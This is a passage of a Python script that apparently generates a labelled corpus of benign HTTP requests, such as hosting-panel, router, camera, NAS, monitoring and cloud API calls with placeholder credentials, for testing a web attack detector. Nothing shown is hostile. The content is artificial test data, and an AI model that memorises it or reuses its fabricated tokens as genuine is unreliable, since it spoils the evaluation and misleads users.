        body=multipart([('name="_file[]"; filename="signature-logo.png"', "\x89PNG\r\n\x1a\nIHDR logo bytes", ["Content-Type: image/png"])], BOUNDARIES[2]),
        ctype="multipart/form-data; boundary=" + BOUNDARIES[2], k=k))
    # --- hosting panels
    cp = [["Authorization", "cpanel eva:U7W3ZQK2M9T4R1P6V8Y0X5C3B2N1M4L7"]]
    o.add("benign", "cpanel", request("GET", "/execute/Email/list_pops?regex=support", "host.example.com:2083", headers=cp, ua="python-requests/2.31.0", k=k))
    o.add("benign", "cpanel", request("GET", "/json-api/listaccts?api.version=1&search=example&searchtype=domain", "host.example.com:2087",
                                      headers=[["Authorization", "whm root:9F8E7D6C5B4A3928171605F4E3D2C1B0"]], ua="WHM-API-Client/1.0", k=k))
    o.add("benign", "cpanel", request("GET", "/cpsess4839201746/frontend/jupiter/filemanager/index.html?dirselect=webroot&domain=example.com", "host.example.com:2083", bot=False, k=k))
    o.add("benign", "cpanel", request("GET", "/cpanelwebcall/awmjslrmqlvtbxqpnqqgbbqwhzfzvhlp", "host.example.com:2082", ua="Mozilla/5.0 (compatible; cPanel-Webcall/1.0)", k=k))
    o.add("benign", "webmin", request("POST", "/session_login.cgi", "host.example.com:10000", bot=False, headers=[["Cookie", "testing=1"]],
                                      body=form([("user", "root"), ("pass", "Tr0ub4dor&3"), ("save", "1")]), ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "webmin", request("GET", "/sysinfo.cgi?xnavigation=1", "host.example.com:10000", bot=False, headers=[["Cookie", "sid=8d1e2f3a4b5c6d7e"]], k=k))
    o.add("benign", "webmin", request("POST", "/package-updates/update.cgi", "host.example.com:10000", bot=False,
                                      headers=[["Referer", "https://host.example.com:10000/package-updates/?xnavigation=1"], ["Cookie", "redirect=1; testing=1; sid=8d1e2f3a4b5c6d7e"]],
                                      body="mode=updates&search=&redir=&redirdesc=&u=openssl&u=libssl3&u=tzdata&ok_top=Update+Selected+Packages",
                                      ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "plesk", request("POST", "/api/v2/cli/dns/call", "plesk.example.com:8443", headers=[["X-API-Key", "8e1c2f3d-4a5b-6c7d-8e9f-0a1b2c3d4e5f"]],
                                     ua="python-requests/2.31.0", body=jdump({"params": ["--info", "example.com"]}), ctype="application/json", k=k))
    # --- OFBiz, ThinkPHP, Laravel, Spring apps on the same boxes
    o.add("benign", "ofbiz", request("GET", "/ordermgr/control/orderview?orderId=WS10010", "erp.example.com:8443", bot=False,
                                     headers=[["Cookie", "JSESSIONID=7A1B2C3D4E5F.jvm1; OFBiz.Visitor=10200"]], k=k))
    o.add("benign", "ofbiz", request("POST", "/webtools/control/login", "erp.example.com:8443", bot=False,
                                     body="USERNAME=admin&PASSWORD=" + quote_plus("Hund-Katze-Maus#7") + "&JavaScriptEnabled=Y", ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "thinkphp", request("GET", "/index.php?s=/index/device/lists&page=2&keyword=%E6%91%84%E5%83%8F%E5%A4%B4", "iot.example.cn", bot=False, k=k))
    o.add("benign", "thinkphp", request("POST", "/index.php?s=/api/device/report", "iot.example.cn", ua="okhttp/4.12.0",
                                        body=jdump({"sn": "HK-DS2CD2143-8812", "temp": 41.5, "online": True, "fw": "V5.7.3 build 220112"}), ctype="application/json", k=k))
    o.add("benign", "laravel", request("GET", "/api/devices?page=2&filter%5Bvendor%5D=hikvision&sort=-last_seen", "cmdb.example.com",
                                       headers=[["Authorization", "Bearer 7|Wq2e3r4t5y6u7i8o9p0aSdFgHjKlZxCv"]], ua="axios/1.6.8", k=k))
    o.add("benign", "spring", request("GET", "/actuator/health", "gw.example.io", ua="kube-probe/1.29", k=k))
    o.add("benign", "spring", request("GET", "/actuator/prometheus", "gw.example.io", ua="Prometheus/2.51.2", accept="application/openmetrics-text;version=1.0.0,text/plain;version=0.0.4;q=0.5,*/*;q=0.1", k=k))
    o.add("benign", "spring", request("GET", "/actuator/gateway/routes", "gw.example.io", ua="curl/8.4.0",
                                      headers=[["Authorization", "Basic " + b64("ops:Gw#Ops2024")]], k=k))
    # --- Atlassian, TeamCity, GitLab, Solr, Druid, Elasticsearch
    o.add("benign", "confluence", request("GET", "/rest/api/content?spaceKey=NET&title=Firewall%20change%20log%20(2024)&expand=body.storage,version", "wiki.example.com",
                                          headers=[["Authorization", "Bearer NjA4MTk0NzU2MjM0OlcS"]], ua="python-requests/2.31.0", k=k))
    o.add("benign", "confluence", request("GET", "/pages/viewpage.action?pageId=884211", "wiki.example.com", bot=False, k=k))
    o.add("benign", "teamcity", request("GET", "/app/rest/builds?locator=buildType:(id:NetConfig_Validate),branch:(default:any),count:10&fields=build(id,number,status,branchName)",
                                        "ci.example.com:8111", headers=[["Authorization", "Bearer eyJ0eXAiOiAiVENWMiJ9.QmFzZTY0.U2lnbmF0dXJl"]], ua="TeamCity-Agent/2024.03", k=k))
    o.add("benign", "teamcity", request("POST", "/app/rest/buildQueue", "ci.example.com:8111", headers=[["Authorization", "Bearer eyJ0eXAiOiAiVENWMiJ9.QmFzZTY0.U2lnbmF0dXJl"]],
                                        ua="python-requests/2.31.0", body='<build><buildType id="NetConfig_Deploy"/><comment><text>deploy ACL change CHG0041234</text></comment></build>',
                                        ctype="application/xml", k=k))
    o.add("benign", "gitlab", request("GET", "/api/v4/projects/12/repository/files/configs%2Frouters%2Fgw-branch7.rsc/raw?ref=main", "git.example.com",
                                      headers=[["PRIVATE-TOKEN", "glpat-Xk9mQ7wE4rT6yU8iO0pL"]], ua="python-gitlab/4.4.0", k=k))
    o.add("benign", "gitlab", request("POST", "/uploads/user", "git.example.com", bot=False, headers=[["X-CSRF-Token", "Jm3k0dUeS9U0sBqJxWb6v6XhZ5l1P8YtP9gE2yQwR7g="]],
                                      body=multipart([('name="file"; filename="topology.png"', "\x89PNG\r\n\x1a\nIHDR topology diagram", ["Content-Type: image/png"])], BOUNDARIES[3]),
                                      ctype="multipart/form-data; boundary=" + BOUNDARIES[3], k=k))
    o.add("benign", "solr", request("GET", "/solr/netlogs/select?q=device%3Afw01%20AND%20action%3Adeny&fq=ts%3A%5BNOW-1DAY%20TO%20NOW%5D&sort=ts%20desc&rows=50&wt=json",
                                    "solr.example.com:8983", ua="python-requests/2.31.0", k=k))
    o.add("benign", "solr", request("GET", "/solr/admin/cores?action=STATUS&core=netlogs&wt=json", "solr.example.com:8983", ua="Zabbix", k=k))
    o.add("benign", "druid", request("POST", "/druid/v2/sql", "druid.example.com:8888", ua="Superset/3.1.2",
                                     body=jdump({"query": "SELECT __time, device, SUM(bytes) AS b FROM netflow WHERE __time > CURRENT_TIMESTAMP - INTERVAL '1' HOUR AND device LIKE 'fw-%' GROUP BY 1, 2 ORDER BY b DESC LIMIT 20",
                                                 "context": {"sqlTimeZone": "Europe/Berlin"}}), ctype="application/json", k=k))
    o.add("benign", "elasticsearch", request("POST", "/logs-fortigate-*/_search", "es.example.com:9200", headers=[["Authorization", "ApiKey VnVhQ2ZHY0JDZGJrUW0tZTVhT3g6dWkybHAyYXhUTm1zeWFrdzl0dk5udw=="]],
                                             ua="elasticsearch-py/8.13.0 (Python/3.11.9; elastic-transport/8.13.0)",
                                             body=jdump({"size": 20, "query": {"bool": {"must": [{"match": {"event.action": "deny"}}, {"range": {"@timestamp": {"gte": "now-15m"}}}],
                                                                                        "must_not": [{"term": {"source.ip": "10.0.0.0/8"}}]}},
                                                         "aggs": {"by_src": {"terms": {"field": "source.ip", "size": 10}}}}),
                                             ctype="application/json", k=k))
    # --- Docker and Kubernetes management (Portainer, kubectl, probes)
    o.add("benign", "docker", request("GET", "/v1.43/containers/json?all=1&filters=%7B%22label%22%3A%5B%22com.docker.compose.project%3Dfrigate%22%5D%7D",
                                      "docker-host.home.example:2376", ua="Portainer/2.20.1", k=k))
    o.add("benign", "docker", request("POST", "/v1.43/containers/create?name=grafana", "docker-host.home.example:2376", ua="docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.1.0-18-amd64 os/linux arch/amd64 UpstreamClient(Docker-Client/24.0.7 \\(linux\\))",
                                      body=jdump({"Image": "grafana/grafana:10.4.2", "Env": ["GF_SECURITY_ADMIN_PASSWORD__FILE=/run/secrets/admin_pw", "TZ=Europe/Berlin"],
                                                  "HostConfig": {"Binds": ["/srv/grafana:/var/lib/grafana", "/etc/localtime:/etc/localtime:ro"],
                                                                 "PortBindings": {"3000/tcp": [{"HostPort": "3000"}]}, "RestartPolicy": {"Name": "unless-stopped"}}}),
                                      ctype="application/json", k=k))
    o.add("benign", "kubernetes", request("GET", "/api/v1/namespaces/monitoring/pods?labelSelector=app.kubernetes.io%2Fname%3Dblackbox-exporter&limit=500",
                                          "k8s.example.com:6443", headers=[["Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6Ik1rZSJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6bW9uOmsifQ.c2ln"]],
                                          ua="kubectl/v1.29.3 (linux/amd64) kubernetes/6813625", accept="application/json;as=Table;v=v1;g=meta.k8s.io,application/json", k=k))
    o.add("benign", "kubernetes", request("GET", "/healthz", "10.0.4.11:10250", ua="kube-probe/1.29", k=k))


def benign_misc(o):
    k = o.k
    # --- DDNS updates from routers and clients
    ddns = [
        ("/nic/update?hostname=bobs-home.example-dyn.net&myip=203.0.113.57&wildcard=NOCHG&mx=NOCHG&backmx=NOCHG", "members.example-dyn.com", "ddclient/3.11.2"),
        ("/nic/update?hostname=office.example-dyn.net&myip=198.51.100.201", "dynupdate.example-noip.com", "Fritz!Box DDNS/1.0.1"),
        ("/nic/update?system=dyndns&hostname=cam-garage.example-dyn.net&myip=203.0.113.58", "members.example-dyn.com", "DrayTek Vigor DDNS 4.4.3"),
        ("/nic/update?hostname=nas.example-dyn.net&myip=2001%3Adb8%3A85a3%3A%3A8a2e%3A370%3A7334", "members.example-dyn.com", "inadyn/2.12.0"),
        ("/update?domains=eva-home&token=a7c6e1f2-3b4d-4e5f-8a9b-0c1d2e3f4a5b&ip=203.0.113.59&verbose=true", "www.example-duckdns.org", "Home Assistant/2024.4.3 aiohttp/3.9.3 Python/3.12"),
        ("/dynamic/update.php?RlhjS2dRd0VzVDl5VTh4TmNRbTQ6MjI5MTg0MDE=&address=203.0.113.60", "freedns.example.org", "curl/8.4.0"),
        ("/nic/update?hostname=vpn.example-dyn.net&myip=203.0.113.61", "dyn.example-he.net", "MikroTik"),
        ("/api/update?hostname=synology-eva.example-dyn.net&myip=203.0.113.62&username=eva", "ddns.example-synology.com", "Synology DDNS Updater/7.2"),
    ]
    for i, (p, h, ua) in enumerate(ddns):
        o.add("benign", "ddns", request("GET", p, h, ua=ua, headers=[["Authorization", "Basic " + b64("bob@example.com:" + pick(["Dyn#Dns!2024", "3f7a9c1e5b"], i))]], k=i))
    o.add("benign", "ddns", request("PUT", "/client/v4/zones/023e105f4ecef8ad9ca31a8372d0c353/dns_records/372e67954025e0ba6aaa6d586b9e0b59", "api.example-cf.com",
                                    headers=[["Authorization", "Bearer YQSn-xWAQiiEh9qM58wZNnyQS7FUdoqGIUAbrh7T"]], ua="ddns-updater/2.6.0",
                                    body=jdump({"type": "A", "name": "home.example.org", "content": "203.0.113.63", "ttl": 300, "proxied": False, "comment": "updated by ddns-updater"}),
                                    ctype="application/json", k=k))
    # --- firmware and signature update checks
    fw = [
        ("/r7000/ww/fileinfo.txt", "updates1.example-netgear.com", "NETGEAR-R7000/V1.0.11.134"),
        ("/autoupdate/genRSS.php?include_beta=0&platform=geminilake&model=DS920%2B&major=7&minor=2&build=64570&nano=3", "update.example-synology.com", "Synology DSM Update"),
        ("/api/firmware?filter=eq~~platform~~e50&filter=eq~~channel~~release&sort=-version&limit=1", "fw-update.example-ubnt.com", "EdgeOS-updater/2.0.9"),
        ("/firmware/check?model=Archer%20AX55&hw=1.0&fw=1.3.1%20Build%2020240117%20rel.62110(5553)&region=EU", "cloud.example-tplink.com", "TP-LINK Cloud Client/1.2"),
        ("/ASUSWRT/RT-AX88U/wlan_update_v2.zip", "dlcdnets.example-asus.com", "asusrouter-Linux-DUTUtil-1.0"),
        ("/fds/versions?platform=FGT60F&version=v7.2.8&build=1639&serial=FGT60FTK2209XXXX", "update.example-fortiguard.net", "FortiGate (FGT60F) v7.2.8,build1639"),
        ("/HikvisionFirmware/check?dev=DS-2CD2143G2-I&ver=V5.7.3%20build%20220112&lang=en", "upgrade.example-hik.com", "Hikvision-Webs"),
        ("/api/v1/firmware/latest?device=QNAP_TS-464&current=5.1.6.2734&channel=stable", "update.example-qnap.com", "QNAP QTS Firmware Update/5.1.6"),
    ]
    for i, (p, h, ua) in enumerate(fw):
        o.add("benign", "firmware-check", request("GET", p, h, ua=ua, k=i))
    o.add("benign", "firmware-check", request("POST", "/devicecheckin", "cloud.example-mikrotik.com", ua="MikroTik RouterOS 7.14.2",
                                              body=jdump({"serial": "HD0891A2B3C", "board": "hAP ax^3", "version": "7.14.2 (stable)", "channel": "stable", "arch": "arm64"}),
                                              ctype="application/json", k=k))
    # --- monitoring probes
    mon = [
        ("GET", "/remote/login?lang=en", "vpn.example.com", "check_http/v2.3.3 (nagios-plugins 2.3.3)"),
        ("GET", "/dana-na/auth/url_default/welcome.cgi", "vpn.example.org", "Blackbox Exporter/0.25.0"),
        ("GET", "/global-protect/login.esp", "gp.example.com", "Uptime-Kuma/1.23.11"),
        ("GET", "/vpn/index.html", "gw.example.com", "PRTG Network Monitor (www.paessler.com)"),
        ("HEAD", "/", "cam01.example.net", "Zabbix"),
        ("GET", "/api/v2/monitor/system/resource/usage?access_token=Nf5q1Gk8rG3qQm0ytN8xkcx7H3Hnp9", "fw01.example.com", "Telegraf/1.30.1 Go/1.22.2"),
        ("GET", "/mgmt/tm/sys/performance/all-stats", "bigip.example.com", "Datadog Agent/7.52.0"),
        ("GET", "/nitro/v1/stat/ns", "adc.example.com", "LibreNMS"),
        ("GET", "/+CSCOE+/logon.html", "asa.example.com", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"),
        ("GET", "/webman/index.cgi", "ds.example.com:5001", "Go-http-client/1.1"),
        ("GET", "/ISAPI/System/status", "cam01.example.net", "check_hikvision.py/1.2"),
        ("GET", "/rest/system/resource", "10.0.0.1", "Grafana/10.4.2"),
    ]
    for i, (m, p, h, ua) in enumerate(mon):
        hs = [["Authorization", "Basic " + b64("monitor:R3ad0nly!")]] if i in (6, 7, 9, 10, 11) else []
        if i == 6:
            hs = [["X-F5-Auth-Token", "QWRMZ3VZR0ZPTkhBV0pJQ1RZU0Y1TQ"]]
        o.add("benign", "monitoring", request(m, p, h, ua=ua, headers=hs, k=i))
    # --- mobile apps
    mob = [
        ("POST", "/", "wap.example-tplinkcloud.com", "Tether/4.5.6 (iPhone; iOS 17.4; Scale/3.00)",
         jdump({"method": "getDeviceList", "params": {"deviceTypeList": ["router", "ap"]}}), "application/json"),
        ("GET", "/api/v1/devices/HD0891A2B3C/status?fields=cpu,memory,uptime", "app.example-unifi.com", "UniFi/10.16.2 (iPhone; iOS 17.4)", None, None),
        ("POST", "/api/v3/userauth/login", "api.example-hik-connect.com", "Hik-Connect/5.3.1 (iPhone; iOS 17.4; Scale/3.00)",
         form([("account", "eva@example.com"), ("password", "6f8e2c1b9a7d5e3f4c2b1a0d9e8f7a6b"), ("featureCode", "a1b2c3d4e5f6"), ("cuName", "aVBob25l"), ("redirect", "0")]),
         "application/x-www-form-urlencoded"),
        ("GET", "/webapi/entry.cgi?api=SYNO.Foto.Browse.Item&version=1&method=list&offset=0&limit=100&album_id=17&additional=%5B%22thumbnail%22%5D", "ds.example.com:5001",
         "Synology Photos/1.7.1 (iPhone; iOS 17.4)", None, None),
        ("GET", "/cgi-bin/filemanager/utilRequest.cgi?func=get_list&sid=a1b2c3d4e5f6g7h8&path=%2FMultimedia%2FCamera%20Uploads&limit=50&start=0", "nas.example.net:8080",
         "Qfile/5.6.2 (iPhone; iOS 17.4)", None, None),
        ("POST", "/v2/devices/3f1c2b8a/commands", "api.example-reolink.com", "Reolink/8.14.4 (Android 14; SM-S918B)",
         jdump({"cmd": "GetAbility", "action": 0, "param": {"User": {"userName": "admin"}}}), "application/json"),
        ("GET", "/api/device/information", "192.168.8.1", "HUAWEI AI Life/14.0.1.300 (Android 14)", None, None),
        ("POST", "/JNAP/", "192.168.1.1", "Linksys/3.4.1 (Android 14)", "{}", "application/json; charset=UTF-8"),
        ("GET", "/api/v2/monitor/router/statistics?vdom=root", "fw01.example.com", "FortiExplorer/4.7.0 (iPhone; iOS 17.4)", None, None),
        ("GET", "/appGet.cgi?hook=get_clientlist()%3Bwl_sta_list_2g()%3Bwl_sta_list_5g()", "router.asus.com", "asusrouter-Android-DUTUtil-1.0.0.4.42", None, None),
    ]
    for i, (m, p, h, ua, b, ct) in enumerate(mob):
        hs = [["Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJldmEifQ.c2lnbmF0dXJl"]] if i in (1, 5, 8) else []
        o.add("benign", "mobile-app", request(m, p, h, ua=ua, headers=hs, body=b, ctype=ct, accept="application/json", k=i))


DEVICES = [("Eva's iPad", "a4:83:e7:1c:2d:3e", "192.168.1.23"), ("LivingRoom-TV", "70:2a:d5:11:22:33", "192.168.1.40"),
           ("printer-3rd-floor", "00:1b:a9:44:55:66", "192.168.1.43"), ("nas01", "00:11:32:aa:bb:cc", "192.168.1.20"),
           ("Xbox Series X", "98:5f:d3:01:02:03", "192.168.1.51"), ("cam-garage", "bc:ad:28:7e:8f:90", "192.168.1.61"),
           ("Tanaka-PC (work)", "3c:7c:3f:12:34:56", "192.168.1.77"), ("doorbell", "ec:71:db:aa:01:02", "192.168.1.80")]
FORWARDS = [("Plex", "32400", "192.168.1.20", "TCP"), ("Minecraft server", "25565", "192.168.1.77", "TCP"),
            ("WireGuard", "51820", "192.168.1.2", "UDP"), ("Synology DSM (HTTPS)", "5001", "192.168.1.20", "TCP"),
            ("Home Assistant", "8123", "192.168.1.5", "TCP"), ("NVR (RTSP)", "554", "192.168.1.60", "TCP")]
CAMS = ["front-door", "garage", "backyard", "lobby", "dock-3", "parking-north", "server-room", "warehouse-2"]
NAS_FOLDERS = ["/Public/Scans 2024", "/homes/eva/Documents/Steuer 2023", "/Multimedia/Music/AC⚡DC/Back in Black", "/projects/Client A - O'Brien & Sons/CAD",
               "/backups/laptop-eva/Users/eva/Desktop", "/Photos/2024/05 - Italy & Alps", "/Public/Software/drivers (old)", "/homes/priya/Recipes #favourites",
               "/projects/2024-05 Angebot (Entwurf)", "/Video/Kids' birthday 2023"]


def benign_more(o):
    k = o.k
    stok = "8f2a6c1e9b3d4f70a5c2e8b1d3f6a9c0"
    # --- DHCP reservations and port forwards on several router UIs
    for i, (name, mac, ip) in enumerate(DEVICES):
        style = i % 4
        if style == 0:
            r = request("POST", "/cgi-bin/luci/;stok=%s/admin/dhcps?form=reservation" % stok, "192.168.0.1", bot=False,
                        body=form([("operation", "insert"), ("key", "add"), ("index", str(i)),
                                   ("old", "add"), ("new", jdump({"mac": mac.replace(":", "-").upper(), "ip": ip, "comment": name, "enable": "on"}))]),
                        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=i)
        elif style == 1:
            r = request("POST", "/start_apply.htm", "router.asus.com", bot=False,
                        body=form([("current_page", "Advanced_DHCP_Content.asp"), ("action_mode", "apply"), ("action_script", "restart_net_and_phy"),
                                   ("dhcp_staticlist", "<%s>%s>>%s" % (mac.upper(), ip, name)), ("dhcp_static_x", "1")]),
                        ctype="application/x-www-form-urlencoded", k=i)
        elif style == 2:
            r = request("PUT", "/rest/ip/dhcp-server/lease", "10.0.0.1", headers=[["Authorization", "Basic " + b64("api:M1kr0tik&Api")]],
                        body=jdump({"address": ip, "mac-address": mac.upper(), "server": "dhcp1", "comment": name}), ctype="application/json",
                        ua="python-requests/2.31.0", k=i)
        else:
            r = request("POST", "/api/dhcpv4/settings/addReservation", "opnsense.home.example", headers=[["Authorization", "Basic " + b64("key:secret-7Yq")]],
                        body=jdump({"reservation": {"hw_address": mac, "ip_address": ip, "hostname": re.sub(r"[^A-Za-z0-9-]", "-", name), "description": name}}),
                        ctype="application/json", ua="python-requests/2.31.0", k=i)
        o.add("benign", "dhcp-reservation", r)
    for i, (desc, port, ip, proto) in enumerate(FORWARDS):
        if i % 3 == 0:
            r = request("POST", "/cgi-bin/luci/;stok=%s/admin/nat?form=vs" % stok, "192.168.0.1", bot=False,
                        body=form([("operation", "insert"), ("key", "add"), ("index", str(i)), ("old", "add"),
                                   ("new", jdump({"name": desc, "external_port": port, "internal_port": port, "ipaddr": ip, "protocol": proto.lower(), "enable": "on"}))]),
                        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=i)
        elif i % 3 == 1:
            r = request("POST", "/apply.cgi?/forwarding.htm%20timestamp=73412377", "192.168.1.1", bot=False,
                        headers=[["Authorization", "Basic " + b64("admin:" + PASSWORDS[3])]],
                        body=form([("submit_flag", "forwarding_add"), ("portname", desc), ("port_start", port), ("port_end", port),
                                   ("port_int_start", port), ("serflag", proto), ("server_ip", ip)]),
                        ctype="application/x-www-form-urlencoded", k=i)
        else:
            r = request("POST", "/api/firewall/d_nat/addRule", "opnsense.home.example", headers=[["Authorization", "Basic " + b64("key:secret-7Yq")]],
                        body=jdump({"rule": {"interface": "wan", "protocol": proto, "destination": {"network": "wanip", "port": port},
                                             "target": ip, "local-port": port, "descr": desc}}),
                        ctype="application/json", ua="python-requests/2.31.0", k=i)
        o.add("benign", "port-forward", r)
    # --- parental controls and URL filters with ordinary words
    for i, (who, sites) in enumerate([("Kids' tablets", "tiktok.com,roblox.com,youtube.com"), ("Guest network", "casino-example.com, *.torrent-example.org"),
                                      ("Office - social", "facebook.com;instagram.com;x.com"), ("Homework time (Mo-Fr 15-18h)", "twitch.tv,discord.com")]):
        o.add("benign", "url-filter", request(
            "POST", pick(["/goform/saveParentControlInfo", "/cgi-bin/luci/;stok=%s/admin/parental_control?form=filter" % stok, "/apply.cgi", "/api/firewall/alias/addItem"], i),
            pick(["192.168.0.1", "192.168.0.1", "192.168.1.1", "opnsense.home.example"], i), bot=False,
            body=form([("deviceName", who), ("urlList", sites), ("enable", "1"), ("schedule", "mon,tue,wed,thu,fri 15:00-18:00")]),
            ctype="application/x-www-form-urlencoded", k=i))
    # --- admin password changes with punctuation-heavy passwords
    for i in range(5):
        old, new = pick(PASSWORDS, i), pick(PASSWORDS, i + 4)
        o.add("benign", "admin-password", request(
            "POST", pick(["/cgi-bin/luci/;stok=%s/admin/administration?form=account" % stok, "/goform/SysToolChangePwd", "/cgi-bin/userconfig.cgi",
                          "/api/user/password", "/webman/modules/PersonalSettings/personal_settings.cgi"], i),
            pick(["192.168.0.1", "192.168.0.1", "nas.example.net:8080", "192.168.8.1", "ds.example.com:5001"], i), bot=False,
            body=form([("operation", "write"), ("old_pwd", old), ("new_pwd", new), ("cfm_pwd", new)]),
            ctype="application/x-www-form-urlencoded; charset=UTF-8", k=i))
    # --- UniFi / Omada controllers
    uh = [["Cookie", "unifises=Kq2mW9xY7zN4; csrf_token=Zp3rT6yU8iO0"], ["X-Csrf-Token", "Zp3rT6yU8iO0"]]
    for i, (m, p, b) in enumerate([
            ("GET", "/api/s/default/stat/device", None), ("GET", "/api/s/default/stat/sta", None),
            ("POST", "/api/s/default/cmd/devmgr", {"cmd": "restart", "mac": "74:ac:b9:12:34:56", "reboot_type": "soft"}),
            ("PUT", "/api/s/default/rest/wlanconf/5f1e2d3c4b5a69788796a5b4", {"name": "Café & Bar's WiFi", "x_passphrase": "Tr0ub4dor&3;horse", "enabled": True}),
            ("POST", "/api/s/default/cmd/stamgr", {"cmd": "block-sta", "mac": "de:ad:be:ef:00:01"}),
            ("GET", "/proxy/network/api/s/default/stat/health", None)]):
        o.add("benign", "unifi", request(m, p, "unifi.example.com:8443", headers=uh, body=jdump(b) if b else None, ctype="application/json",
                                         ua=pick([BROWSER_UAS[0], "UniFi/10.16.2 (iPhone; iOS 17.4)", "Home Assistant/2024.4.3 aiohttp/3.9.3 Python/3.12"], i),
                                         accept="application/json", k=i))
    o.add("benign", "omada", request("POST", "/9b1c2d3e4f5a/api/v2/login", "omada.example.com:8043", bot=False,
                                     body=jdump({"username": "admin", "password": "Zx9$q&Lm!2"}), ctype="application/json", k=k))
    # --- OPNsense / pfSense API and web UI
    opn = [["Authorization", "Basic " + b64("key:secret-7Yq")]]
    for i, (m, p, b) in enumerate([
            ("GET", "/api/core/firmware/status", None), ("GET", "/api/diagnostics/interface/getArp", None),
            ("POST", "/api/firewall/alias_util/add/blocklist", {"address": "198.51.100.23"}),
            ("POST", "/api/firewall/filter/addRule", {"rule": {"action": "pass", "interface": "lan", "protocol": "TCP", "source_net": "lan",
                                                               "destination_net": "10.0.0.53", "destination_port": "53", "description": "DNS to Pi-hole only"}}),
            ("POST", "/api/firewall/filter/apply", {}), ("GET", "/api/wireguard/service/show", None),
            ("POST", "/api/diagnostics/dns_diagnostics/query", {"hostname": "www.example.com", "type": "A"})]):
        o.add("benign", "opnsense", request(m, p, "opnsense.home.example", headers=opn, body=jdump(b) if b is not None else None,
                                            ctype="application/json", ua="python-requests/2.31.0", accept="application/json", k=i))
    o.add("benign", "pfsense", request("POST", "/diag_ping.php", "pfsense.home.example", bot=False, headers=[["Cookie", "PHPSESSID=8c1e9d2f7a3b"]],
                                       body=form([("__csrf_magic", "sid:3d9e1a7c5b2f,1714641309"), ("host", "9.9.9.9"), ("ipproto", "ipv4"),
                                                  ("sourceip", ""), ("count", "3"), ("Submit", "Ping")]),
                                       ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "pfsense", request("POST", "/diag_dns.php", "pfsense.home.example", bot=False, headers=[["Cookie", "PHPSESSID=8c1e9d2f7a3b"]],
                                       body=form([("__csrf_magic", "sid:3d9e1a7c5b2f,1714641309"), ("host", "mail.example.com"), ("create_alias", ""), ("Submit", "Lookup")]),
                                       ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "pfsense", request("POST", "/firewall_aliases_edit.php", "pfsense.home.example", bot=False, headers=[["Cookie", "PHPSESSID=8c1e9d2f7a3b"]],
                                       body=form([("__csrf_magic", "sid:3d9e1a7c5b2f,1714641309"), ("name", "Office_Printers"), ("descr", "printers (1st & 3rd floor)"),
                                                  ("type", "host"), ("address0", "192.168.1.43"), ("detail0", "HP M479 - 3rd floor"),
                                                  ("address1", "192.168.1.44"), ("detail1", "Brother (1st floor; toner low)"), ("save", "Save")]),
                                       ctype="application/x-www-form-urlencoded", k=k))
    # --- many cameras: snapshots and motion settings
    for i, cam in enumerate(CAMS):
        host = "cam-%s.example.net" % cam
        o.add("benign", "camera-snapshot", request("GET", pick(["/ISAPI/Streaming/channels/101/picture", "/cgi-bin/snapshot.cgi?channel=1",
                                                                "/axis-cgi/jpg/image.cgi?resolution=1280x720", "/cgi-bin/api.cgi?cmd=Snap&channel=0&rs=k3j2h1&token=6d9a6c1f"], i),
                                                   host, ua=pick(["Home Assistant/2024.4.3 aiohttp/3.9.3 Python/3.12", "Frigate/0.13.2", "Blue Iris 5.8.9.4", "Scrypted/0.96.0"], i),
                                                   headers=[["Authorization", "Basic " + b64("viewer:Cam#View-%d" % i)]], accept="image/jpeg,*/*", k=i))
        o.add("benign", "camera-motion", request(
            "PUT", "/ISAPI/System/Video/inputs/channels/1/motionDetection", host, ua=BROWSER_UAS[i % 3],
            headers=[["Authorization", "Basic " + b64("admin:Cam#Adm1n")], ["X-Requested-With", "XMLHttpRequest"]],
            body='<?xml version="1.0" encoding="UTF-8"?><MotionDetection version="2.0" xmlns="http://www.hikvision.com/ver20/XMLSchema"><enabled>true</enabled>'
                 '<enableHighlight>false</enableHighlight><samplingInterval>2</samplingInterval><startTriggerTime>500</startTriggerTime>'
                 '<endTriggerTime>500</endTriggerTime><regionType>grid</regionType><Grid><rowGranularity>18</rowGranularity><columnGranularity>22</columnGranularity></Grid>'
                 '<MotionDetectionLayout version="2.0"><sensitivityLevel>%d</sensitivityLevel><layout><gridMap>fffffcfffffcfffffc000000</gridMap></layout></MotionDetectionLayout></MotionDetection>' % (40 + i * 5),
            ctype="application/xml; charset=UTF-8", k=i))
    # --- NAS folder listings with real-world names
    for i, folder in enumerate(NAS_FOLDERS):
        if i % 2:
            p = "/cgi-bin/filemanager/utilRequest.cgi?func=get_list&sid=a1b2c3d4e5f6g7h8&is_iso=0&list_mode=all&path=" + quote(folder, safe="") + "&dir=ASC&limit=200&sort=filename&start=0"
            h = "nas.example.net:8080"
        else:
            p = "/webapi/entry.cgi?api=SYNO.FileStation.List&version=2&method=list&folder_path=" + quote(folder, safe="") + "&additional=%5B%22size%22%2C%22time%22%5D&_sid=Uw3jG8kqPq1yE9WJx0N3RC5AeFp7bT"
            h = "ds.example.com:5001"
        o.add("benign", "nas-listing", request("GET", p, h, ua=pick(BROWSER_UAS + ["DS file/5.17.0 (iPhone; iOS 17.4)", "Qfile/5.6.2 (Android 14)"], i), k=i))
    # --- more VPN client keepalives and config fetches
    for i in range(6):
        u = pick(USERS, i)
        o.add("benign", "vpn-client", pick([
            request("GET", "/remote/index", "vpn.example.com", ua=FORTI_UA, headers=[["Cookie", "SVPNCOOKIE=Kd9%%2Fq2Lm%d%%3D%%3D" % i]], k=i),
            request("POST", "/ssl-vpn/getconfig.esp", "gp.example.com", ua=GP_CLIENT,
                    body=form([("client-type", "1"), ("protocol-version", "p1"), ("app-version", "6.2.1-56"), ("ipv6-support", "yes"),
                               ("clientos", "Windows"), ("os-version", "Microsoft Windows 11 Pro , 64-bit"), ("hmac-algo", "sha1,md5,sha256"),
